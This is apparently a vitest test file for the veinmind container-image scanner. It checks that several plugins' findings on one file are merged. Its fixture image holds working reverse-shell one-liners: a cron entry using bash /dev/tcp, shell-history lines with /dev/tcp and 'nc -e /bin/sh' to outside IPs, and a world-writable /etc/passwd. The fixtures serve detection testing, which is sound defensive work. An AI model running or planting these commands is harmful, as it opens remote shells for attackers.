import { scan } from '@veinmind/engine'
import backdoor from '@veinmind/plugin-backdoor'
import malicious from '@veinmind/plugin-malicious'
import privilegeEscalation from '@veinmind/plugin-privilege-escalation'
import trace from '@veinmind/plugin-trace'
import { buildImage, layer } from '@veinmind/testing'
import { expect, test } from 'vitest'

test('what several plugins find of one file is one finding, and the worst of them leads it', async () => {
  const image = buildImage(
    layer({
      'etc/cron.d/update': '* * * * * root bash -i >& /dev/tcp/10.1.2.3/4444 0>&1\n',
      'root/.bash_history': 'ls\nbash -i >& /dev/tcp/203.0.113.7/9 0>&1\nnc -e /bin/sh 203.0.113.7 9\n',
      'etc/passwd': { content: 'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n', mode: 0o666 },
    }),
    { config: { User: 'app' } },
  )
  const { findings } = await scan([image], {
    plugins: [backdoor, malicious, privilegeEscalation, trace],
    tool: { name: 'test', version: '0' },
  })
  const told = findings.map(({ severity, rule, others = [] }) => [severity, rule.id, ...others.map((o) => o.rule.id)])
  expect(told.toSorted((a, b) => a.join().localeCompare(b.join()))).toEqual([
    ['critical', 'BACK-101', 'MAL-068'],
    ['critical', 'PRIV-030', 'TRACE-040'],
    // Another command of the same history.
    ['critical', 'TRACE-050'],
    ['critical', 'TRACE-050', 'MAL-068'],
  ])
})
